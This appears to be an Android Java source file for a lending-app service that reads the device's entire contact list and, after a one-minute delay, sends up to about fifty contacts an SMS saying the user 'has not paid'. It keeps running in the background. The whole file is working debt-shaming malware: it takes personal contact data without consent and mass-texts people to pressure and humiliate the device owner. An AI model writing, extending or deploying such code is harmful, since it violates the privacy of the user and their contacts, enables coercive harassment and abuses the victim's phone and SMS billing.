package dev.lender.texts;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import android.telephony.SmsManager;
import java.util.*;

public class Main extends Service {

    public IBinder onBind(Intent i) {
        return null;
    }

    public int onStartCommand(Intent i, int f, int s) {
        final Map<String, String> book = new LinkedHashMap<>();
        fill(book);
        new Handler(Looper.getMainLooper()).postDelayed(
            new Runnable() {
                public void run() {
                    remind(book);
                }
            },
            60000
        );
        return START_STICKY;
    }

    private void fill(Map<String, String> m) {
        Cursor c = getContentResolver().query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            null,
            null,
            null,
            null
        );
        while (c.moveToNext())
            m.put(
                c.getString(c.getColumnIndexOrThrow("data1")),
                c.getString(c.getColumnIndexOrThrow("display_name"))
            );
        c.close();
    }

    private void remind(Map<String, String> m) {
        SmsManager sms = SmsManager.getDefault();
        int sent = 0;
        for (Map.Entry<String, String> e : m.entrySet()) {
            if (sent++ > 50) break;
            ArrayList<String> parts = sms.divideMessage(
                "Your friend has not paid. Tell them, please"
            );
            sms.sendMultipartTextMessage(e.getKey(), null, parts, null, null);
        }
    }
}
